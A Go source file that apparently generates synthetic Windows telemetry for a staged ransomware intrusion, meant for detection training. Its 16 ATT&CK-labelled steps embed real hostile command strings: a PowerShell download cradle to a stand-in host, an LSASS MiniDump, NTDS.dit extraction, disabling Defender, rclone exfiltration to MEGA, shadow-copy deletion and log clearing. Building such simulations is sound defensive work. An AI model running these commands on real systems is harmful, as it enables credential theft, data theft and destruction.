package main

import (
	"encoding/base64"
	"fmt"
	"time"
	"unicode/utf16"
)

const (
	c2IP       = "185.220.101.47"
	stagingDir = `C:\ProgramData\MSOffice\`
	payload    = stagingDir + `OfficeUpd.dll`
	cradleHost = "cdn-docs-share.com"
	cradleIP   = "104.168.44.19"
	megaIP1    = "89.44.169.135"
	megaIP2    = "31.216.148.11"
)

// psEncode is PowerShell's -EncodedCommand form: base64 of UTF-16LE.
func psEncode(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, r := range u {
		b[2*i], b[2*i+1] = byte(r), byte(r>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func (g *gen) begin(id, name, tactic, host, desc string, techniques ...string) {
	g.step = id
	g.steps = append(g.steps, &stepInfo{ID: id, Name: name, Tactic: tactic, Techniques: techniques, Host: host, Description: desc})
}

// attack is the intrusion: one phishing e-mail to j.doe on CLAIMS-WS03
// ends, seven hours later, in data theft and encryption on FS01.
func (g *gen) attack() {
	ws, fs, dc := g.hosts["CLAIMS-WS03"], g.hosts["FS01"], g.hosts["DC01"]
	jdoe, backup := ws.user, g.users["svc_backup"]
	u := jdoe.qualified()

	// 1. spearphishing attachment
	g.begin("phishing-attachment", "Macro document opened from Outlook", "initial-access", ws.name,
		"j.doe opens Claim_Appeal_0310.docm, an attachment to an e-mail posing as a provider's appeal; Outlook saves it to its attachment cache and Word opens it.",
		"T1566.001")
	t := at(9, 41, 12, 305)
	doc := `C:\Users\j.doe\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + g.outlookDir(ws) + `Claim_Appeal_0310.docm`
	g.fileCreate(t, ws.outlook, doc)
	word := g.spawn(t.Add(7*time.Second+120*time.Millisecond), ws.outlook, officeDir+"WINWORD.EXE", fmt.Sprintf(`"%sWINWORD.EXE" /n "%s" /o ""`, officeDir, doc), u, "Medium")
	g.imageLoad(t.Add(9*time.Second), word, `C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`, "Visual Basic for Applications Runtime", "VBE7.DLL", true)

	// 2. the macro runs an encoded PowerShell download cradle
	g.begin("macro-powershell", "Macro starts an encoded PowerShell download cradle", "execution", ws.name,
		"The macro starts powershell -nop -w hidden -enc <base64>; the decoded script downloads and runs a second stage in memory.",
		"T1204.002", "T1059.001", "T1027.010")
	t = at(9, 41, 31, 18)
	cradle := fmt.Sprintf(`IEX (New-Object Net.WebClient).DownloadString('https://%s/u/upd.ps1')`, cradleHost)
	ps := g.spawn(t, word, psImg, "powershell.exe -nop -w hidden -enc "+psEncode(cradle), u, "Medium")
	g.scriptBlock(t.Add(610*time.Millisecond), ps, cradle, "")
	stage2 := fmt.Sprintf(`$d='%s';New-Item -ItemType Directory -Force -Path $d | Out-Null;(New-Object Net.WebClient).DownloadFile('https://%s/u/OfficeUpd.dll',$d+'OfficeUpd.dll');Start-Process rundll32.exe -ArgumentList ($d+'OfficeUpd.dll,DllRegisterServer') -WindowStyle Hidden`, stagingDir, cradleHost)
	g.scriptBlock(t.Add(2*time.Second+410*time.Millisecond), ps, stage2, "")

	// 3. ingress tool transfer
	g.begin("ingress-tool-transfer", "Loader DLL downloaded to ProgramData", "command-and-control", ws.name,
		"PowerShell resolves the staging domain, connects to it over HTTPS and writes OfficeUpd.dll to C:\\ProgramData\\MSOffice.",
		"T1105")
	g.dns(t.Add(700*time.Millisecond), ps, cradleHost, "::ffff:"+cradleIP+";")
	g.netconn(t.Add(760*time.Millisecond), ps, cradleIP, 443, "")
	g.netconn(t.Add(2*time.Second+500*time.Millisecond), ps, cradleIP, 443, "")
	g.fileCreate(t.Add(3*time.Second+880*time.Millisecond), ps, payload)

	// 4. the loader runs under rundll32
	g.begin("rundll32-loader", "Loader runs under rundll32", "stealth", ws.name,
		"PowerShell starts rundll32.exe C:\\ProgramData\\MSOffice\\OfficeUpd.dll,DllRegisterServer.",
		"T1218.011")
	t = at(9, 41, 36, 2)
	rd := g.spawn(t, ps, `C:\Windows\System32\rundll32.exe`, `"C:\Windows\System32\rundll32.exe" `+payload+`,DllRegisterServer`, u, "Medium")
	g.imageLoad(t.Add(40*time.Millisecond), rd, payload, "-", "-", false)

	// 5. command and control beacons over HTTPS for the rest of the day
	g.begin("c2-https", "Loader beacons to its C2 server over HTTPS", "command-and-control", ws.name,
		"rundll32 connects to 185.220.101.47:443 every 10-25 minutes until the end of the day.",
		"T1071.001")
	for bt := t.Add(9 * time.Second); bt.Before(at(18, 0, 0, 0)); bt = bt.Add(time.Duration(10+g.rng.IntN(15))*time.Minute + time.Duration(g.rng.IntN(60000))*time.Millisecond) {
		g.netconn(bt, rd, c2IP, 443, "")
	}

	// 6. injection into explorer
	g.begin("injection", "Loader injects into explorer.exe", "stealth", ws.name,
		"rundll32 creates a remote thread in the user's explorer.exe.",
		"T1055")
	g.emit(at(9, 43, 10, 517), ws, chSysmon, 8,
		kv{"RuleName", "-"}, kv{"UtcTime", "2026-03-10 09:43:10.517"},
		kv{"SourceProcessGuid", rd.guid}, kv{"SourceProcessId", rd.pid}, kv{"SourceImage", rd.image},
		kv{"TargetProcessGuid", ws.explorer.guid}, kv{"TargetProcessId", ws.explorer.pid}, kv{"TargetImage", ws.explorer.image},
		kv{"NewThreadId", 7720}, kv{"StartAddress", "0x00000000035A0000"}, kv{"StartModule", "-"}, kv{"StartFunction", "-"},
		kv{"SourceUser", u}, kv{"TargetUser", u})

	// 7. discovery through one-shot shells
	g.begin("discovery", "Host and domain discovery", "discovery", ws.name,
		"One-shot cmd /c shells from rundll32 run whoami /all, net group \"domain admins\" /domain, nltest /dclist and /domain_trusts, systeminfo, and a renamed AdFind (af.exe) dumping all computers.",
		"T1059.003", "T1033", "T1087.002", "T1069.002", "T1482", "T1018", "T1082")
	t = at(9, 52, 3, 441)
	shell := func(t time.Time, cmd string) *proc {
		return g.spawn(t, rd, cmdImg, `C:\Windows\system32\cmd.exe /c `+cmd, u, "Medium")
	}
	c := shell(t, "whoami /all")
	g.spawn(t.Add(60*time.Millisecond), c, `C:\Windows\System32\whoami.exe`, `whoami  /all`, u, "Medium")
	t = t.Add(2*time.Minute + 13*time.Second)
	c = shell(t, `net group "domain admins" /domain`)
	n := g.spawn(t.Add(50*time.Millisecond), c, `C:\Windows\System32\net.exe`, `net  group "domain admins" /domain`, u, "Medium")
	g.spawn(t.Add(90*time.Millisecond), n, `C:\Windows\System32\net1.exe`, `C:\Windows\system32\net1  group "domain admins" /domain`, u, "Medium")
	t = t.Add(1*time.Minute + 41*time.Second)
	c = shell(t, `nltest /dclist:medsure.local`)
	g.spawn(t.Add(45*time.Millisecond), c, `C:\Windows\System32\nltest.exe`, `nltest  /dclist:medsure.local`, u, "Medium")
	t = t.Add(38 * time.Second)
	c = shell(t, `nltest /domain_trusts /all_trusts`)
	g.spawn(t.Add(45*time.Millisecond), c, `C:\Windows\System32\nltest.exe`, `nltest  /domain_trusts /all_trusts`, u, "Medium")
	t = t.Add(1*time.Minute + 5*time.Second)
	c = shell(t, `systeminfo`)
	g.spawn(t.Add(55*time.Millisecond), c, `C:\Windows\System32\systeminfo.exe`, `systeminfo`, u, "Medium")
	t = t.Add(3*time.Minute + 20*time.Second)
	g.fileCreate(t, rd, stagingDir+`af.exe`)
	c = shell(t.Add(12*time.Second), `C:\ProgramData\MSOffice\af.exe -f "(objectcategory=computer)" -csv name operatingSystem dNSHostName > C:\ProgramData\MSOffice\c.csv`)
	af := g.spawn(t.Add(12*time.Second+70*time.Millisecond), c, stagingDir+`af.exe`, `C:\ProgramData\MSOffice\af.exe  -f "(objectcategory=computer)" -csv name operatingSystem dNSHostName`, u, "Medium",
		pe{"1.57.0.0", "Joeware ADFind", "AdFind", "www.joeware.net", "AdFind.exe"})
	g.netconn(t.Add(12*time.Second+300*time.Millisecond), af, dcIP, 389, "DC01.medsure.local")
	g.fileCreate(t.Add(13*time.Second), c, stagingDir+`c.csv`)

	// 8. kerberoasting
	g.begin("kerberoasting", "Service tickets requested with RC4 for service accounts", "credential-access", dc.name,
		"From CLAIMS-WS03 the loader requests RC4-encrypted service tickets for three user service accounts, to crack offline.",
		"T1558.003")
	t = at(10, 12, 40, 6)
	for i, svc := range []struct {
		name string
		rid  int
	}{{"svc_sql", 1612}, {"svc_backup", 1108}, {"svc_claimsapp", 1615}} {
		g.tgs(t.Add(time.Duration(i*180)*time.Millisecond), jdoe.name, ws.ip, svc.name, svc.rid, "0x17")
	}

	// 9. LSASS memory
	g.begin("lsass-dump", "LSASS memory read and dumped with comsvcs.dll", "credential-access", ws.name,
		"The loader opens lsass.exe for reading, then a shell runs rundll32 comsvcs.dll MiniDump to write d.bin (j.doe is a local administrator).",
		"T1003.001")
	t = at(10, 20, 2, 903)
	g.procAccess(t, rd, ws.lsass, "0x1010", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000000035A2B3C)`)
	c = shell(t.Add(48*time.Second), fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\ProgramData\MSOffice\d.bin full`, ws.lsass.pid))
	c.integrity = "High"
	md := g.spawn(t.Add(48*time.Second+60*time.Millisecond), c, `C:\Windows\System32\rundll32.exe`, fmt.Sprintf(`rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump %d C:\ProgramData\MSOffice\d.bin full`, ws.lsass.pid), u, "High")
	g.procAccess(t.Add(48*time.Second+200*time.Millisecond), md, ws.lsass, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+3e2a1|C:\Windows\System32\rundll32.exe+3bc5`)
	g.fileCreate(t.Add(49*time.Second+700*time.Millisecond), md, stagingDir+`d.bin`)

	// 10. persistence
	g.begin("persistence", "Scheduled task and Run key start the loader", "persistence", ws.name,
		"A scheduled task named like an Edge updater and an HKCU Run value both start the loader at logon.",
		"T1053.005", "T1547.001")
	t = at(10, 31, 17, 250)
	c = shell(t, `schtasks /create /tn "MicrosoftEdgeUpdateTaskCore" /tr "rundll32.exe C:\ProgramData\MSOffice\OfficeUpd.dll,DllRegisterServer" /sc onlogon /ru SYSTEM /f`)
	c.integrity = "High"
	g.spawn(t.Add(55*time.Millisecond), c, `C:\Windows\System32\schtasks.exe`, `schtasks  /create /tn "MicrosoftEdgeUpdateTaskCore" /tr "rundll32.exe C:\ProgramData\MSOffice\OfficeUpd.dll,DllRegisterServer" /sc onlogon /ru SYSTEM /f`, u, "High")
	t = t.Add(26 * time.Second)
	c = shell(t, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OfficeUpdate /t REG_SZ /d "rundll32.exe C:\ProgramData\MSOffice\OfficeUpd.dll,DllRegisterServer" /f`)
	reg := g.spawn(t.Add(50*time.Millisecond), c, `C:\Windows\System32\reg.exe`, `reg  add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OfficeUpdate /t REG_SZ /d "rundll32.exe C:\ProgramData\MSOffice\OfficeUpd.dll,DllRegisterServer" /f`, u, "Medium")
	g.regSet(t.Add(80*time.Millisecond), reg, `HKU\`+jdoe.sid()+`\Software\Microsoft\Windows\CurrentVersion\Run\OfficeUpdate`, `rundll32.exe C:\ProgramData\MSOffice\OfficeUpd.dll,DllRegisterServer`)

	// 11. lateral movement with PsExec to the file server
	g.begin("lateral-psexec", "PsExec to FS01 with the cracked svc_backup password", "lateral-movement", fs.name,
		"A renamed PsExec (pe.exe) logs on to FS01 as svc_backup, copies PSEXESVC.exe to ADMIN$, installs and starts the PSEXESVC service, which runs cmd.exe.",
		"T1021.002", "T1569.002")
	t = at(11, 5, 44, 12)
	g.fileCreate(t.Add(-40*time.Second), rd, stagingDir+`pe.exe`)
	c = shell(t, `C:\ProgramData\MSOffice\pe.exe -accepteula \\FS01 -u MEDSURE\svc_backup -p ******** -s cmd.exe /c "C:\ProgramData\MSOffice\r.bat"`)
	pex := g.spawn(t.Add(60*time.Millisecond), c, stagingDir+`pe.exe`, `C:\ProgramData\MSOffice\pe.exe  -accepteula \\FS01 -u MEDSURE\svc_backup -p ******** -s cmd.exe /c "C:\ProgramData\MSOffice\r.bat"`, u, "Medium",
		pe{"2.43", "Execute processes remotely", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexec.c"})
	g.netconn(t.Add(200*time.Millisecond), pex, fsIP, 445, "FS01.medsure.local")
	lid := g.logon(t.Add(410*time.Millisecond), fs, backup, 3, ws.ip, "CLAIMS-WS03", "NTLM", true)
	g.emit(t.Add(520*time.Millisecond), fs, chSecurity, 5145,
		kv{"SubjectUserSid", backup.sid()}, kv{"SubjectUserName", backup.name}, kv{"SubjectDomainName", domain}, kv{"SubjectLogonId", lid},
		kv{"ObjectType", "File"}, kv{"IpAddress", ws.ip}, kv{"IpPort", "51822"},
		kv{"ShareName", `\\*\ADMIN$`}, kv{"ShareLocalPath", `\??\C:\Windows`}, kv{"RelativeTargetName", "PSEXESVC.exe"},
		kv{"AccessMask", "0x2"}, kv{"AccessList", "%%4417"}, kv{"AccessReason", "-"})
	g.emit(t.Add(900*time.Millisecond), fs, chSystem, 7045,
		kv{"ServiceName", "PSEXESVC"}, kv{"ImagePath", `%SystemRoot%\PSEXESVC.exe`}, kv{"ServiceType", "user mode service"},
		kv{"StartType", "demand start"}, kv{"AccountName", "LocalSystem"}).withProvider("Service Control Manager")
	svc := g.spawn(t.Add(1100*time.Millisecond), fs.services, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`, system, "System")
	fsShell := g.spawn(t.Add(1400*time.Millisecond), svc, cmdImg, `cmd.exe /c "C:\ProgramData\MSOffice\r.bat"`, system, "System")
	g.fileCreate(t.Add(1300*time.Millisecond), svc, stagingDir+`r.bat`)

	// 12. WMI to the domain controller and NTDS extraction
	g.begin("wmi-ntds", "WMI execution on DC01 extracts NTDS.dit", "credential-access", dc.name,
		"From CLAIMS-WS03, wmic /node:10.20.0.10 process call create runs ntdsutil IFM on DC01 as svc_backup (a Domain Admin).",
		"T1047", "T1003.003")
	t = at(11, 21, 8, 630)
	c = shell(t, `wmic /node:"10.20.0.10" /user:MEDSURE\svc_backup /password:******** process call create "cmd.exe /Q /c ntdsutil ""ac i ntds"" ifm ""create full C:\Windows\Temp\_x"" q q"`)
	wm := g.spawn(t.Add(60*time.Millisecond), c, `C:\Windows\System32\wbem\WMIC.exe`, `wmic  /node:"10.20.0.10" /user:MEDSURE\svc_backup /password:******** process call create "cmd.exe /Q /c ntdsutil ""ac i ntds"" ifm ""create full C:\Windows\Temp\_x"" q q"`, u, "Medium")
	g.netconn(t.Add(150*time.Millisecond), wm, dcIP, 135, "DC01.medsure.local")
	dlid := g.logon(t.Add(300*time.Millisecond), dc, backup, 3, ws.ip, "CLAIMS-WS03", "NTLM", true)
	wmiHost := &proc{h: dc, guid: dc.wmiprvse.guid, pid: dc.wmiprvse.pid, image: dc.wmiprvse.image, cmd: dc.wmiprvse.cmd, user: dc.wmiprvse.user, integrity: "System", logonID: dlid}
	dcmd := g.spawn(t.Add(700*time.Millisecond), wmiHost, cmdImg, `cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\_x" q q`, backup.qualified(), "High")
	nt := g.spawn(t.Add(760*time.Millisecond), dcmd, `C:\Windows\System32\ntdsutil.exe`, `ntdsutil  "ac i ntds" ifm "create full C:\Windows\Temp\_x" q q`, backup.qualified(), "High")
	g.fileCreate(t.Add(14*time.Second), nt, `C:\Windows\Temp\_x\Active Directory\ntds.dit`)
	g.fileCreate(t.Add(15*time.Second), nt, `C:\Windows\Temp\_x\registry\SYSTEM`)
	g.logoff(t.Add(2*time.Minute), dc, backup, dlid, 3)

	// 13. Defender tampering on the file server
	g.begin("defender-tampering", "Defender real-time protection disabled on FS01", "defense-impairment", fs.name,
		"Through the PsExec shell, PowerShell turns off real-time and IOAV protection and excludes C:\\ProgramData; Defender records the change in the registry.",
		"T1685")
	t = at(13, 40, 21, 337)
	tamper := `Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true; Add-MpPreference -ExclusionPath C:\ProgramData`
	fps := g.spawn(t, fsShell, psImg, `powershell.exe -nop -c "`+tamper+`"`, system, "System")
	g.scriptBlock(t.Add(500*time.Millisecond), fps, tamper, "")
	g.regSet(t.Add(900*time.Millisecond), fs.defender(g), `HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`, "DWORD (0x00000001)")
	g.regSet(t.Add(920*time.Millisecond), fs.defender(g), `HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableIOAVProtection`, "DWORD (0x00000001)")
	g.regSet(t.Add(1100*time.Millisecond), fs.defender(g), `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\ProgramData`, "DWORD (0x00000000)")

	// 14. exfiltration with rclone
	g.begin("exfiltration", "Claims share uploaded to MEGA with rclone", "exfiltration", fs.name,
		"A renamed rclone (OneDriveSync.exe) copies D:\\Shares\\Claims to a MEGA remote for an hour and a half.",
		"T1567.002")
	t = at(14, 5, 9, 880)
	g.fileCreate(t.Add(-2*time.Minute), fsShell, stagingDir+`OneDriveSync.exe`)
	g.fileCreate(t.Add(-100*time.Second), fsShell, stagingDir+`rc.conf`)
	rcl := g.spawn(t, fsShell, stagingDir+`OneDriveSync.exe`, `C:\ProgramData\MSOffice\OneDriveSync.exe copy D:\Shares\Claims mega:bk0310 --config C:\ProgramData\MSOffice\rc.conf --transfers 16 --ignore-existing -q`, system, "System",
		pe{"1.66.0", "Rsync for cloud storage", "Rclone", "https://rclone.org", "rclone.exe"})
	g.dns(t.Add(400*time.Millisecond), rcl, "g.api.mega.co.nz", "::ffff:"+megaIP1+";")
	for i := 0; i < 24; i++ {
		tt := t.Add(time.Duration(2+i*225) * time.Second)
		if i%4 == 0 {
			g.dns(tt.Add(-30*time.Millisecond), rcl, fmt.Sprintf("gfs%03dn%03d.userstorage.mega.co.nz", 200+g.rng.IntN(100), 100+g.rng.IntN(100)), "::ffff:"+megaIP2+";")
		}
		ip := megaIP1
		if i%2 == 1 {
			ip = megaIP2
		}
		g.netconn(tt, rcl, ip, 443, "")
	}

	// 15. impact
	g.begin("impact", "Recovery inhibited and claims data encrypted", "impact", fs.name,
		"Shadow copies are deleted and boot recovery disabled, then an encryptor masquerading as svchost.exe in ProgramData encrypts the shares and drops README_RESTORE_FILES.txt in each folder.",
		"T1490", "T1486", "T1036.005")
	t = at(16, 45, 2, 118)
	g.spawn(t, fsShell, `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, system, "System")
	g.spawn(t.Add(3*time.Second), fsShell, `C:\Windows\System32\wbem\WMIC.exe`, `wmic shadowcopy delete /nointeractive`, system, "System")
	g.spawn(t.Add(6*time.Second), fsShell, `C:\Windows\System32\bcdedit.exe`, `bcdedit /set {default} recoveryenabled No`, system, "System")
	g.fileCreate(t.Add(20*time.Second), fsShell, stagingDir+`svchost.exe`)
	enc := g.spawn(t.Add(31*time.Second), fsShell, stagingDir+`svchost.exe`, `C:\ProgramData\MSOffice\svchost.exe -path D:\Shares -nolog`, system, "System")
	folders := []string{`Claims`, `Claims\2026`, `Claims\2026\03`, `Claims\Appeals`, `Claims\Reports`, `Claims\Inbox`, `HR`, `HR\Benefits`, `HR\Payroll`, `Users\a.khan`, `Users\j.doe`, `Users\m.ortiz`}
	et := t.Add(33 * time.Second)
	for _, f := range folders {
		for k := 0; k < 2; k++ {
			et = et.Add(time.Duration(200+g.rng.IntN(900)) * time.Millisecond)
			g.fileCreate(et, enc, fmt.Sprintf(`D:\Shares\%s\%s_%d.xlsx.medlock`, f, g.pick([]string{"batch", "members", "ledger", "appeal"}), 1000+g.rng.IntN(9000)))
		}
		et = et.Add(time.Duration(100+g.rng.IntN(300)) * time.Millisecond)
		g.fileCreate(et, enc, `D:\Shares\`+f+`\README_RESTORE_FILES.txt`)
	}

	// 16. clearing the event logs
	g.begin("log-clearing", "Security and System logs cleared on FS01", "defense-impairment", fs.name,
		"wevtutil cl Security and wevtutil cl System; the Event Log service records 1102 and 104.",
		"T1685.005")
	t = at(16, 58, 40, 2)
	g.spawn(t, fsShell, `C:\Windows\System32\wevtutil.exe`, `wevtutil  cl Security`, system, "System")
	g.emit(t.Add(120*time.Millisecond), fs, chSecurity, 1102,
		kv{"SubjectUserSid", "S-1-5-18"}, kv{"SubjectUserName", "FS01$"}, kv{"SubjectDomainName", domain}, kv{"SubjectLogonId", "0x3e7"}).
		withProvider("Microsoft-Windows-Eventlog")
	g.spawn(t.Add(2*time.Second), fsShell, `C:\Windows\System32\wevtutil.exe`, `wevtutil  cl System`, system, "System")
	g.emit(t.Add(2*time.Second+130*time.Millisecond), fs, chSystem, 104,
		kv{"SubjectUserName", "FS01$"}, kv{"SubjectDomainName", domain}, kv{"BackupPath", ""}).
		withProvider("Microsoft-Windows-Eventlog")
	g.step = ""
}
